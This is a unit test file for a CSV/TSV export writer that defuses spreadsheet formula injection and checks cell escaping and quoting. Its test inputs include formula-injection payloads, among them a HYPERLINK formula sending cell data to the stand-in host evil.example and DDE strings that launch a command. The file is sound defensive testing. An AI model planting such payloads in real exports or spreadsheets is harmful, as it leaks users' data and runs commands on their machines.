import { delimitedCell, delimitedRow, neutralizeFormula, writeDelimited } from './delimited-text';

describe('delimited text (CSV/TSV) writer', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '-',
    '+57 300',
  ])('prefixes %j with a quote, so a spreadsheet reads it as text', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each(['+573001234567', '-1', '-0.5', '42', 'hola =1', ' =1', "'=already text", ''])(
    'keeps %j as it is (a plain number, or no formula start)',
    (text) => expect(neutralizeFormula(text)).toBe(text),
  );

  it('escapes TSV cells after neutralizing them, one row per line', () => {
    expect(delimitedRow('tsv', ['=A1\tB', 'línea\nnueva', 'c:\\x', null, 7, '+573001234567'])).toBe(
      "'=A1\\tB\tlínea\\nnueva\tc:\\\\x\t\t7\t+573001234567",
    );
    expect(delimitedCell('tsv', '\t=1')).toBe("'\\t=1");
  });

  it('quotes CSV cells with quotes, commas or line breaks (RFC 4180), numbers as written', () => {
    expect(delimitedRow('csv', ['=1,2', 'say "hi"', -1, undefined, 'a\r\nb'])).toBe(
      `"'=1,2","say ""hi""",-1,,"a\r\nb"`,
    );
  });

  it('writes a file header first, every row ended (CRLF for CSV, LF for TSV)', () => {
    expect(writeDelimited('csv', ['a', 'b'], [[1, '@x']]).toString()).toBe("a,b\r\n1,'@x\r\n");
    expect(writeDelimited('tsv', ['a', 'b'], [[1, '@x']]).toString()).toBe("a\tb\n1\t'@x\n");
  });
});
